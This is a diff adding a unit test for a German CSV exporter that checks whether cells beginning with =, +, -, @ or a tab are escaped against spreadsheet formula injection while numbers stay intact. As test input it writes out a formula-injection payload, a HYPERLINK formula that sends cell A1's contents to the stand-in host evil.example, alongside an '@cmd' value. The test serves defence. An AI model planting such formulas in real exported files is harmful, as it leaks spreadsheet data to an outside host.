@@ -40,4 +40,9 @@ describe('German CSV', () => {
       germanCsv(['Beleg-Nr.', 'Zahlungsempfänger', 'Betrag brutto EUR'], rows).toString('utf8'),
     );
   });
+
+  it('neutralises text a spreadsheet would evaluate as a formula (OWASP), but never numbers', () => {
+    const line = germanCsvLine(['=HYPERLINK("http://evil.example/?"&A1;"Klick")', '+SUM(1;2)', '-2+3', '@cmd', '\tTab', 'Müller', new Decimal('-7.50'), -3]);
+    expect(line).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1;""Klick"")";"'+SUM(1;2)";'-2+3;'@cmd;'\tTab;Müller;-7,50;-3\r\n`);
+  });
 });
